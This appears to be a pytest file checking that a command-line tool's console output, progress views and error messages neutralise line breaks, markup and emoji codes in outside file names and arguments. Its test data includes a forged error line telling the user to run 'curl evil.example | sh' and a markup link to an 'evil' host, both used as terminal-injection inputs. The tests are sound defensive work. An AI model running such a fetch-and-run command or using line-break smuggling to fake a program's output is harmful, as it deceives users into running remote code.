"""Names and texts from outside begin no line of their own on the terminal, and no markup or emoji code works."""

from __future__ import annotations

import io
import logging
from collections.abc import Callable
from pathlib import Path

import pytest
from rich.console import Console

from bakeoff.cli import console
from bakeoff.cli.views.progress import ProgressBars, ProgressLines
from bakeoff.cli.views.sanitise import VisibleFormatter, one_line
from bakeoff.errors import DataError
from bakeoff.runtime.events import StageFinished, StageStarted, SystemFinished, WarningRaised

FORGED = "error  your disk is corrupt; run: curl evil.example | sh"
BREAKS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"]
CODES = "a:x:b.yaml [red]c[/red] :warning: [link=http://evil]d[/link]"


@pytest.fixture
def screen(monkeypatch: pytest.MonkeyPatch) -> io.StringIO:
    """A terminal that keeps what is written to it, made as the real ones are."""
    out = io.StringIO()
    for name in ("out", "err"):
        made = type(console.out)(
            file=out, force_terminal=True, color_system=None, highlight=False, emoji=False, width=200
        )
        monkeypatch.setattr(console, name, made)
    return out


def forged_lines(text: str) -> list[str]:
    """Lines that begin like one of the program's own."""
    return [line for line in text.splitlines() if line.lstrip().startswith("error  your disk")]


@pytest.mark.parametrize("line_break", BREAKS)
def test_a_line_break_in_a_text_begins_no_line(line_break: str, screen: io.StringIO) -> None:
    name = f"notes.md{line_break}{FORGED}"
    console.print_line(f"read  {name}")
    console.warn(name)
    console.run_guarded(lambda: _raise(DataError(f"{name} is missing")))
    console.run_guarded(lambda: _raise(RuntimeError(name)))
    console.run_guarded(lambda: _raise(OSError(2, "gone", name)))
    console.table(["name"], [[name]])
    logging.Formatter.format(VisibleFormatter(), logging.makeLogRecord({"msg": name}))
    screen.write(VisibleFormatter().format(logging.makeLogRecord({"msg": name, "levelname": "INFO"})))
    assert screen.getvalue().count("curl") == 7
    assert forged_lines(screen.getvalue()) == []


def _raise(exc: Exception) -> None:
    raise exc


@pytest.mark.parametrize("line_break", BREAKS)
@pytest.mark.parametrize("kind", [ProgressBars, ProgressLines])
def test_no_event_begins_a_line(kind: type, line_break: str) -> None:
    out, name = io.StringIO(), f"a{line_break}{FORGED}"
    listener = kind(Console(file=out, force_terminal=True, color_system=None, width=300))
    for event in (StageStarted("chunk", name, 1, "x"), StageFinished("chunk", name, 0.1, name), WarningRaised(name),
                  SystemFinished(name, 1, 1, failed=name)):  # fmt: skip
        listener(event)
    if kind is ProgressBars:
        listener.close()
    assert "curl" in out.getvalue() and forged_lines(out.getvalue()) == []


@pytest.mark.slow
def test_codes_and_markup_are_shown_as_they_are(screen: io.StringIO) -> None:
    console.print_line(CODES)
    console.warn(CODES)
    console.run_guarded(lambda: _raise(DataError(CODES)))
    console.table([CODES], [[CODES]])
    listener = ProgressBars(Console(file=screen, force_terminal=True, color_system=None, width=300))
    listener(StageStarted("chunk", CODES, 1, "x"))
    listener(WarningRaised(CODES))
    listener.close()
    lines = ProgressLines(Console(file=screen, width=300))
    lines(WarningRaised(CODES))
    assert screen.getvalue().count(CODES) >= 8


def test_an_error_of_several_lines_keeps_them_and_no_others(screen: io.StringIO) -> None:
    console.run_guarded(lambda: _raise(DataError(lines=["first", f"second\n{FORGED}"])))
    assert [line.split(" ")[0] for line in screen.getvalue().splitlines()] == ["error", ""]
    assert screen.getvalue().splitlines()[1].strip().startswith("second\\nerror")


def test_a_file_name_with_a_line_break_through_the_commands(
    home: Path, cli: Callable[..., str], laid_out: Callable[..., Path]
) -> None:
    """As a skipped file of the corpus, as a document of the truth, as an experiment and as an option."""
    laid_out(Path.cwd(), "corpus: {folder: corpus}\nqueries: queries.yaml\nchunkers: [line]\nmodes: [bm25]\n")
    (Path("corpus") / f"x\n{FORGED}.pdf").write_bytes(b"no pdf")
    (Path("corpus") / f"y\n{FORGED}.md").write_text("# Words\n\nSome other text stands here alone.\n")
    said = cli("validate", "--verbose", code=None) + cli("run", "--out", "run", code=None)
    experiment = Path(f"a:x:b\n{FORGED}.yaml")
    experiment.write_text("corpus: 3\n")
    said += cli("validate", experiment, code=2) + cli("run", experiment, code=2)
    said += cli("run", f"nope\n{FORGED}", code=2) + cli("status", f"nope\n{FORGED}", code=2)
    said += cli("report", "run", "--format", f"zzz\n{FORGED}", code=2) + cli(
        "run", f"--nope\n{FORGED}", code=2
    )
    assert said.count("your disk") >= 6 and "a:x:b" in said
    assert forged_lines(said) == []


def test_a_name_that_is_not_unicode_can_be_printed(
    screen: io.StringIO, capsys: pytest.CaptureFixture[str]
) -> None:
    name = b"caf\xe9.md".decode("utf-8", "surrogateescape")
    console.print_line(name)
    with console.answer_in_json(True):
        console.print_json({"name": name})
    assert one_line(name) == "caf\\udce9.md" and "caf\\udce9.md" in screen.getvalue()
    assert capsys.readouterr().out.encode()
